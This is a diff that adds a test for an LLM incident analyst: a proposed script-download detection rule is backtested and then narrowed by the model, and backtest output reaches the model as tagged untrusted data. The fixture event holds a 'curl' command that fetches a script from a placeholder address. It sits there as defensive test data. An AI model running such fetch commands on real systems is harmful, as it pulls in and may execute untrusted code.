@@ -170,4 +170,40 @@ describe('analyse ⇄ MCP ⇄ LLM', () => {
       /refused: argument namespace="kube-system" is outside this incident/,
     );
   });
+
+  it('a proposed rule is backtested by the real MCP rules.backtest and repaired by the model', async () => {
+    llm.requests.length = 0;
+    const rule = (condition: string) =>
+      `- rule: Script download\n  desc: d\n  condition: ${condition}\n  output: o (%proc.cmdline)\n  priority: WARNING\n`;
+    const noisy = rule('proc.name = bash');
+    const fixed = rule('proc.name = bash and proc.cmdline contains "x.sh"');
+    llm.enqueue(
+      answerReply(
+        'openai',
+        answer({ citedEventIds: ['ev-2'], explanation: 'A download [event ev-2].', proposedRule: noisy }),
+      ),
+      openAiReply({ content: JSON.stringify({ proposedRule: fixed }) }),
+    );
+    const analyst = new LlmAnalyst({
+      client: await clientFor(llm, 'openai'),
+      prompts: staticPromptSource(),
+      tools: gateway,
+      limits: { maxToolRounds: 0 },
+    });
+    const out = await analyst.analyse(
+      incident([event('ev-2', { 'proc.cmdline': 'curl http://198.51.100.7/x.sh' }, at(290))]),
+    );
+    assert.equal(out.result.analyst, 'llm', out.result.degradedReason);
+    assert.equal(out.result.proposedRule, fixed);
+    assert.equal(out.ruleCheck?.status, 'accepted');
+    assert.equal(out.ruleCheck.backtest.report?.incident.hits, 1);
+    assert.equal(out.ruleCheck.backtest.report?.other.hits, 0);
+    assert.equal(llm.requests.length, 2);
+    const repair = messageTexts(llm.requests[1]!).join('\n');
+    assert.match(repair, /it fired on 1 of 3 other stored events/);
+    assert.match(
+      repair,
+      /<untrusted-data id="backtest-1" nonce="[a-f0-9]+">\nids of other events it fired on: ev-1/,
+    );
+  });
 });
